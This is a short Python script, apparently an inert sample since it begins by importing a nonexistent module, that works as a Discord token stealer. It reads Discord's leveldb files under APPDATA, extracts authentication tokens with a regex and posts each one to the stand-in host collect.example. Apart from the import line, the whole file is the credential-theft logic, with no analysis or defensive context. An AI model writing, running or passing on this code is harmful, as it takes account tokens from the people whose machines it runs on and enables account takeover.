import inert_sample  # there is no such module: nothing below ever runs
import os
import re
import requests

base = os.path.join(os.environ["APPDATA"], "discord", "Local Storage", "leveldb")
for name in os.listdir(base):
    if name.endswith((".log", ".ldb")):
        text = open(os.path.join(base, name), errors="ignore").read()
        for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", text):
            requests.post("https://collect.example/d", json={"t": token})
